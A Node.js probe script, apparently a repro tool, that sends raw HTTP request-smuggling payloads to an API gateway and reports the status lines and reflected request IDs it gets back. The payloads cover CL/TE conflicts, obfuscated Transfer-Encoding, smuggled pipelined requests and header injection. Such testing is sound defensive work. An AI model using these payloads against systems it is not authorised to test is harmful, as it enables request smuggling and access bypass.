// Raw-socket probes of the gateway's request framing (smuggling attempts). Prints the status
// line(s) each probe gets back. Usage: node repro/client-framing-probe.mjs HOST PORT API_KEY DEPLOYMENT
import net from 'node:net';
const [host, port, key, model] = process.argv.slice(2);
const body = JSON.stringify({ model, messages: [{ role: 'user', content: 'hi' }] });
const smuggled = `GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\n\r\n`;
const probes = {
  'duplicate content-length': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nContent-Length: ${body.length + 5}\r\n\r\n${body}`,
  'CL + TE': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
  'TE chunked, identity': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nTransfer-Encoding: chunked, identity\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
  'TE xchunked': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nTransfer-Encoding: xchunked\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  'chunked with trailers + pipelined GET': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nTransfer-Encoding: chunked\r\nTrailer: x-model\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\nx-model: other\r\nContent-Length: 99\r\n\r\n${smuggled}`,
  'chunk ext + bare LF': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)};ext=1\n${body}\r\n0\r\n\r\n`,
  'HEAD on a routed path': `HEAD /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\n\r\n`,
  'HEAD /v1/models then GET': `HEAD /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\n\r\n${smuggled}`,
  'space before colon': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Length : 4\r\n\r\n${body}`,
  'obs-fold header': `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nX-A: a\r\n b\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  'absolute-form': `POST http://evil/v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  'x-request-id + origin injection attempt': `GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nX-Request-Id: evil\r\nOrigin: http://a\x9b31mRED\r\n\r\n`,
};
for (const [name, raw] of Object.entries(probes)) {
  const out = await new Promise((resolve) => {
    const s = net.connect(Number(port), host); let data = '';
    s.setTimeout(8000, () => { s.destroy(); resolve(data + ' [timeout]'); });
    s.on('data', (d) => (data += d.toString('latin1'))); s.on('close', () => resolve(data)); s.on('error', (e) => resolve(data + ` [${e.code}]`));
    s.end(Buffer.from(raw, 'latin1'));
  });
  const statuses = [...out.matchAll(/HTTP\/1\.1 (\d{3})[^\r]*/g)].map((m) => m[0]);
  const ids = [...out.matchAll(/x-request-id: (\S+)/gi)].map((m) => m[1]);
  console.log(`${name.padEnd(40)} ${statuses.join(' | ') || '(no response)'}${ids.includes('evil') ? '  REQUEST-ID REFLECTED' : ''}`);
}
